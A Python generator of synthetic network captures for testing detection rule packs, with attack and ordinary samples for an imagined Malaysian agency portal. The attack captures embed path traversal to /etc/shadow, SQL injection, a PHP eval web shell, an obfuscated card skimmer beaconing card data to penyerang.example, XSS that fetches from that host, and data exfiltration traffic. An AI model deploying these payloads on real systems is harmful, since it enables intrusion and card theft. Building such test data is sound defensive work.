"""The samples of the rule packs in rules/packs: packs.py FOLDER.

Every capture is made up: hosts of RFC 5737 and .example, no number of a person
or a card in use (card numbers are the test numbers of payment networks). TLS is real,
between two ends in this process; its keys are thrown away. So those bytes differ
on each run, all others do not.
"""
import os
import ssl
import struct
import subprocess
import sys
import tempfile

START = 1795770000  # 2026-11-27T09:00:00Z, a Friday


class Capture:
    """A pcap of TCP connections, each 10 ms a packet."""

    def __init__(self, start=START):
        self.out, self.t, self.port = [], start * 1000, 40000

    def packet(self, src, dst, sport, dport, seq, ack, flags, data=b""):
        tcp = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64240, 0, 0) + data
        a, b = bytes(map(int, src.split("."))), bytes(map(int, dst.split(".")))
        total = sum(struct.unpack(">%dH" % ((len(tcp) + 13) // 2), a + b + b"\0\6" + struct.pack(">H", len(tcp)) + tcp + b"\0" * (len(tcp) % 2)))
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        tcp = tcp[:16] + struct.pack(">H", ~total & 0xFFFF) + tcp[18:]
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0x4000, 64, 6, 0) + a + b
        total = sum(struct.unpack(">10H", head))
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        head = head[:10] + struct.pack(">H", ~total & 0xFFFF) + head[12:]
        frame = b"\x02\0\0\0\0\2\x02\0\0\0\0\1\x08\0" + head + tcp
        self.t += 10
        self.out.append(struct.pack("<IIII", self.t // 1000, self.t % 1000 * 1000, len(frame), len(frame)) + frame)

    def talk(self, client, server, dport, turns):
        """A whole connection; turns are (from the client?, bytes)."""
        self.port += 1
        sport, x, y = self.port, 1000, 5000
        self.packet(client, server, sport, dport, x, 0, 2)
        self.packet(server, client, dport, sport, y, x + 1, 18)
        x, y = x + 1, y + 1
        self.packet(client, server, sport, dport, x, y, 16)
        for mine, data in turns:
            for i in range(0, len(data), 1400):
                piece = data[i:i + 1400]
                if mine:
                    self.packet(client, server, sport, dport, x, y, 24, piece)
                    x += len(piece)
                else:
                    self.packet(server, client, dport, sport, y, x, 24, piece)
                    y += len(piece)
        self.packet(client, server, sport, dport, x, y, 17)
        self.packet(server, client, dport, sport, y, x + 1, 17)
        self.packet(client, server, sport, dport, x + 1, y + 1, 16)

    def http(self, request, answer, client="198.51.100.20", server="192.0.2.10", host="portal.agensi.example"):
        """One request and its answer: (method, target, headers, body), (status, headers, body)."""
        method, target, headers, body = request
        lines = ["%s %s HTTP/1.1" % (method, target), "Host: " + host]
        if not any(h.startswith("User-Agent") for h in headers):
            lines.append("User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0")
        if body:
            lines.append("Content-Length: %d" % len(body))
        asked = "\r\n".join(lines + headers + ["Connection: close", "", ""]).encode() + body
        status, headers, body = answer
        lines = ["HTTP/1.1 " + status, "Content-Length: %d" % len(body)] + headers + ["Connection: close", "", ""]
        self.talk(client, server, 80, [(True, asked), (False, "\r\n".join(lines).encode() + body)])

    def get(self, target, body=b"<html><title>Utama</title></html>", status="200 OK", kind="text/html", headers=(), **to):
        self.http(("GET", target, list(headers), b""), (status, ["Content-Type: " + kind], body), **to)

    def post(self, target, body, kind="application/x-www-form-urlencoded", status="200 OK", headers=(), answer=b"ok", **to):
        self.http(("POST", target, ["Content-Type: " + kind] + list(headers), body), (status, ["Content-Type: text/plain"], answer), **to)

    def upload(self, target, name, kind, content, **to):
        part = b"--batas\r\nContent-Disposition: form-data; name=\"fail\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n%s\r\n--batas--\r\n"
        self.post(target, part % (name.encode(), kind.encode(), content), "multipart/form-data; boundary=batas", **to)

    def tls(self, name, version, client="198.51.100.20", server="192.0.2.10", days=365):
        """A real handshake, and a few bytes each way."""
        turns, ends = [], []
        with tempfile.TemporaryDirectory() as folder:
            key, cert = os.path.join(folder, "key"), os.path.join(folder, "cert")
            subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", cert, "-days", str(days), "-subj", "/CN=" + name],
                           check=True, stderr=subprocess.DEVNULL)
            for side in (ssl.PROTOCOL_TLS_CLIENT, ssl.PROTOCOL_TLS_SERVER):
                c = ssl.SSLContext(side)
                c.set_ciphers("ALL:@SECLEVEL=0")
                c.minimum_version = c.maximum_version = version
                if side == ssl.PROTOCOL_TLS_SERVER:
                    c.load_cert_chain(cert, key)
                else:
                    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
                i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
                ends.append((c.wrap_bio(i, o, server_side=side == ssl.PROTOCOL_TLS_SERVER, server_hostname=name if side == ssl.PROTOCOL_TLS_CLIENT else None), i, o))
            done = [False, False]
            while not all(done):
                for n, (end, _, out) in enumerate(ends):
                    try:
                        end.do_handshake()
                        done[n] = True
                    except ssl.SSLWantReadError:
                        pass
                    data = out.read()
                    if data:
                        turns.append((n == 0, data))
                        ends[1 - n][1].write(data)
            ends[0][0].write(b"GET / HTTP/1.1\r\n\r\n")
            turns.append((True, ends[0][2].read()))
            ends[1][0].write(b"HTTP/1.1 204 No Content\r\n\r\n")
            turns.append((False, ends[1][2].read()))
        self.talk(client, server, 443, turns)

    def write(self, path):
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1) + b"".join(self.out))


ATTACKER = "203.0.113.66"
PAGE = b"""<html><head><title>Portal Agensi Contoh</title><script src="/js/utama.js"></script>
<script src="https://cdn.agensi.example/pustaka.js"></script></head><body><h1>Selamat datang</h1><form action="/log-masuk" method="post">
<input name="id"><input type="password" name="k"></form></body></html>"""
NEXT_YEAR = START + 400 * 86400


def portal(folder):
    c = Capture()
    bad = dict(client=ATTACKER)
    c.get("/muat-turun?fail=../../../../etc/passwd", b"tiada", "404 Not Found", **bad)
    c.get("/imej/..%2f../../../etc/shadow", b"tiada", "404 Not Found", **bad)
    c.get("/.git/config", b"[core]\n\trepositoryformatversion = 0\n", kind="text/plain", **bad)
    c.get("/sandaran.sql.gz", b"tiada", "403 Forbidden", **bad)
    c.get("/berita?id=1%20UNION%20ALL%20SELECT%20nama,rahsia%20FROM%20pengguna", PAGE, **bad)
    c.upload("/permohonan", "borang.php.jpg", "image/jpeg", b"<?php @eval($_POST['x']); ?>", **bad)
    for n in range(20):
        c.get("/cuba%d" % n, b"tiada", "404 Not Found", **bad)
    c.get("/", b"<html><title>Hacked by Sesiapa</title><h1>digodam oleh Sesiapa</h1></html>")
    c.get("/bayaran", b"<html><script src='https://statistik.penyerang.example/s.js'></script></html>")
    c.t = NEXT_YEAR * 1000
    c.tls("portal.agensi.example", ssl.TLSVersion.TLSv1_2, days=30)
    c.write(folder + "/attack.pcap")
    c = Capture()
    c.get("/", PAGE)
    c.get("/berita?id=1&susun=tarikh", PAGE)
    c.get("/carian?q=select+a+union+of+workers", PAGE)
    c.get("/dokumen/../dokumen/panduan.pdf", b"%PDF-1.7\n", kind="application/pdf")
    c.get("/hilang", b"tiada", "404 Not Found")
    c.get("/berita/keselamatan", b"<html><title>Berita</title><p>Laman yang pernah hacked by orang luar dipulihkan; <?php tidak dipaparkan.</p></html>")
    c.upload("/permohonan", "gambar.jpg", "image/jpeg", b"\xff\xd8\xff\xe0 gambar")
    c.tls("portal.agensi.example", ssl.TLSVersion.TLSv1_2, days=3650)
    c.write(folder + "/ordinary.pcap")


JWT = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJjb250b2gifQ.c29tZXRoaW5n"


def identity(folder):
    c = Capture()
    idp = dict(server="192.0.2.20", host="id.agensi.example")
    c.get("/akaun", headers=["Authorization: Basic Y29udG9oOmNvbnRvaA=="], **idp)
    c.get("/balik?access_token=" + JWT, **idp)
    c.post("/log-masuk", b"id=contoh&kata_laluan=contoh-sahaja", **idp)
    c.get("/authorize?client_id=portal&response_type=code&redirect_uri=https%3A%2F%2Fpenyerang.example%2Fcb", b"", "302 Found", **idp)
    c.post("/acs", b"SAMLResponse=PHNhbWxwOlJlc3BvbnNlPg%3D%3D&RelayState=x", **idp)
    c.get("/akaun;jsessionid=5F1D3A9B7C2E4F60A1B2C3D4E5F60718", **idp)
    for _ in range(10):
        c.post("/api/log-masuk", b'{"id":"contoh"}', "application/json", "401 Unauthorized", client=ATTACKER, **idp)
    c.get("/mydigital", b"<html><title>MyDigital ID</title><form action='https://penyerang.example/a/hantar.php' method='post'>Log masuk<input name='id'>"
          b"<input type='password' name='k'></form></html>", client="198.51.100.21", server="203.0.113.80", host="mydigital-id.penyerang.example")
    c.write(folder + "/attack.pcap")
    c = Capture()
    c.get("/log-masuk", PAGE, **idp)
    c.get("/authorize?client_id=portal&response_type=code&redirect_uri=https%3A%2F%2Fportal.agensi.example%2Fcb", b"", "302 Found", **idp)
    c.post("/api/log-masuk", b'{"id":"contoh"}', "application/json", "401 Unauthorized", **idp)
    c.post("/api/log-masuk", b'{"id":"contoh"}', "application/json", **idp)
    c.get("/akaun?token=3f2a", headers=["Authorization: Bearer sesuatu"], **idp)
    c.get("/cari?q=password=rahsia", PAGE, **idp)
    c.write(folder + "/ordinary.pcap")


SKIMMER = b"""document.querySelector('#bayar').addEventListener('submit',function(){var d=document.getElementById('nokad').value+'|'+document.getElementById('cvv').value;
(new Image ()).src=atob('Ly9wZW55ZXJhbmcuZXhhbXBsZS9zPw==')+btoa(d);navigator.sendBeacon('//penyerang.example/s',d)});"""
CARDS = b"".join(b"4111111111111111|%02d|28|%03d\n" % (n % 12 + 1, 100 + n) for n in range(12))


def payments(folder):
    c = Capture()
    pay = dict(server="192.0.2.30", host="bayar.agensi.example")
    c.post("/bayar", b"amaun=10.00&no_kad=4111111111111111&cvv=123&tamat=0128", **pay)
    c.get("/bayar?amaun=10&card=5555555555554444&x=1", **pay)
    c.get("/js/borang.js", SKIMMER, kind="application/javascript", **pay)
    c.get("/simpan/senarai.txt", CARDS, kind="text/plain", client=ATTACKER, **pay)
    for n in range(10):
        c.post("/api/caj", b'{"amaun":1}', "application/json", "402 Payment Required", client=ATTACKER, **pay)
    c.tls("bayar.agensi.example", ssl.TLSVersion.TLSv1, server="192.0.2.30")
    c.write(folder + "/attack.pcap")
    c = Capture()
    c.get("/bayar?amaun=10&rujukan=4111111111111111", **pay)
    c.post("/bayar", b"amaun=10.00&token=tok_4f9a&rujukan=1234567890123456&kadar=12", **pay)
    c.get("/js/borang.js", b"document.querySelector('#bayar').addEventListener('submit',function(){fetch ('/api/caj')});", kind="application/javascript", **pay)
    c.post("/api/caj", b'{"amaun":1}', "application/json", "402 Payment Required", **pay)
    c.tls("bayar.agensi.example", ssl.TLSVersion.TLSv1_2, server="192.0.2.30")
    c.write(folder + "/ordinary.pcap")


PEOPLE = b"nama,no_kp\n" + b"".join(b"Orang %d,9%d0%d1%d-99-%04d\n" % (n, n % 10, n % 9 + 1, n % 10, n) for n in range(60))
ZIP = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 8, 0, 0, 0, 16, 16, 8, 0) + b"data.csv" + b"\x5a" * 28


def sharing(folder):
    c = Capture()
    api = dict(server="192.0.2.40", host="data.agensi.example")
    c.talk("198.51.100.40", "203.0.113.40", 21, [
        (False, b"220 FTP\r\n"), (True, b"USER contoh\r\n"), (False, b"331 ok\r\n"), (True, b"PASS contoh\r\n"), (False, b"230 ok\r\n"),
        (True, b"STOR penduduk-2026.csv.gz\r\n"), (False, b"150 ok\r\n"), (False, b"226 ok\r\n"), (True, b"QUIT\r\n"), (False, b"221 ok\r\n")])
    c.get("/simpan/data", b"-- MySQL dump 10.19\n--\nCREATE TABLE penduduk (id int);\n", kind="text/plain", **api)
    c.http(("PUT", "/baldi/a", ["User-Agent: rclone/v1.70.0"], b"isi"), ("200 OK", [], b""), client="198.51.100.40", server="203.0.113.41", host="storan.example")
    c.tls("g.api.mega.co.nz", ssl.TLSVersion.TLSv1_2, client="198.51.100.40", server="203.0.113.42")
    c.get("/api/penduduk?per_page=100000", b"[]", kind="application/json", **api)
    for n in range(50):
        c.get("/api/penduduk/%d" % (1000 + n), b'{"id":%d}' % (1000 + n), kind="application/json", client=ATTACKER, **api)
    c.get("/eksport/penduduk.csv", PEOPLE, kind="text/csv", **api)
    c.http(("PUT", "/peti/arkib.zip", ["Content-Type: application/zip"], ZIP), ("201 Created", [], b""), client="198.51.100.40", server="203.0.113.41", host="storan.example")
    c.write(folder + "/attack.pcap")
    c = Capture()
    c.talk("198.51.100.40", "203.0.113.40", 21, [
        (False, b"220 FTP\r\n"), (True, b"USER contoh\r\n"), (False, b"331 ok\r\n"), (True, b"PASS contoh\r\n"), (False, b"230 ok\r\n"),
        (True, b"STOR panduan.pdf\r\n"), (False, b"150 ok\r\n"), (False, b"226 ok\r\n"), (True, b"QUIT\r\n"), (False, b"221 ok\r\n")])
    c.get("/api/penduduk?per_page=100", b"[]", kind="application/json", **api)
    for n in range(5):
        c.get("/api/penduduk/%d" % (1000 + n), b'{"id":%d}' % (1000 + n), kind="application/json", **api)
    c.get("/eksport/ringkasan.csv", PEOPLE[:300], kind="text/csv", **api)
    c.get("/panduan", b"To make one: -- MySQL dump is what mysqldump writes first.", kind="text/plain", **api)
    c.http(("PUT", "/peti/arkib.zip", ["Content-Type: application/zip"], ZIP[:6] + b"\0\0" + ZIP[8:]), ("201 Created", [], b""), client="198.51.100.40", server="203.0.113.41", host="storan.example")
    c.tls("data.agensi.example", ssl.TLSVersion.TLSv1_2, server="192.0.2.40")
    c.write(folder + "/ordinary.pcap")


def feedback(folder):
    c = Capture()
    form = dict(host="maklumbalas.agensi.example", server="192.0.2.50")
    c.post("/maklum-balas", b"teks=%3Cscript%3Efetch('//penyerang.example')%3C%2Fscript%3E", client="203.0.113.67", **form)
    c.post("/maklum-balas", b'{"teks":"<img src=x onerror=alert(1)>"}', "application/json", client="203.0.113.67", **form)
    c.upload("/lampiran", "invois.pdf.lnk", "application/octet-stream", b"L\0\0\0\x01\x14\x02\0", client="203.0.113.67", **form)
    c.post("/maklum-balas", b"teks=" + b"+".join(b"https%%3A%%2F%%2Fjudi%d.example%%2F" % n for n in range(6)), client="203.0.113.67", **form)
    for n in range(30):
        c.post("/maklum-balas", b"teks=%d" % n, client=ATTACKER, headers=["User-Agent: python-requests/2.32.3"], **form)
    c.http(("PUT", "/lampiran/logo.svg", ["Content-Type: image/svg+xml"], b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"), ("201 Created", [], b""), client="203.0.113.67", **form)
    c.http(("PUT", "/lampiran/borang.doc", ["Content-Type: application/msword"], b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"_\0V\0B\0A\0_\0Sub Document_Open()" + b"\0" * 200),
           ("201 Created", [], b""), client="203.0.113.67", **form)
    c.write(folder + "/attack.pcap")
    c = Capture()
    c.post("/maklum-balas", b"teks=Terima+kasih+atas+perkhidmatan.+Skrip+%3C3+di+https%3A%2F%2Fportal.agensi.example%2F", **form)
    c.post("/maklum-balas", b'{"teks":"2 < 3, script dan iframe ialah kata biasa"}', "application/json", **form)
    c.upload("/lampiran", "gambar.png", "image/png", b"\x89PNG\r\n\x1a\n", **form)
    c.http(("PUT", "/lampiran/logo.svg", ["Content-Type: image/svg+xml"], b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"), ("201 Created", [], b""), **form)
    c.http(("PUT", "/lampiran/borang.doc", ["Content-Type: application/msword"], b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"Tiada makro" + b"\0" * 200), ("201 Created", [], b""), **form)
    c.write(folder + "/ordinary.pcap")


for make in (portal, identity, payments, sharing, feedback):
    make(os.path.join(sys.argv[1], make.__name__, "samples"))
